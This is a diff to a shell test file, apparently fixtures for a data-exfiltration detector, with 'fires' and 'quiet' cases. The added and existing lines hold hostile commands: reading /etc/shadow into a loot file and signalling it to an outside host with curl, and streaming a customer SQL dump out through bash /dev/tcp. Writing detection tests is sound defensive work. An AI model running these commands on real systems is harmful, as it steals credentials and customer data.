@@ -21,8 +21,17 @@ quiet_cloud_storage_client_run_below_server() {
 	rclone copy /srv/backup remote:backup
 }
 
+fires_data_sent_outside_after_secret_was_read() {
+	cat /etc/shadow >/tmp/loot
+	curl -s "http://$outside/page?$(wc -c </tmp/loot)"
+}
+quiet_data_sent_outside_after_secret_was_read() {
+	cat /etc/passwd >/tmp/notes
+	curl -s "http://$outside/page"
+}
+
 fires_data_sent_outside_by_shell_tool() { bash -c "exec cat /srv/backup/customers.sql >/dev/tcp/$outside/443"; }
 quiet_data_sent_outside_by_shell_tool() {
-	bash -c 'exec cat /srv/backup/customers.sql >/dev/tcp/10.0.0.9/443'
+	bash -c 'exec cat /srv/www/index.php >/dev/tcp/10.0.0.9/443'
 	act connect "$outside:443" 6
 }
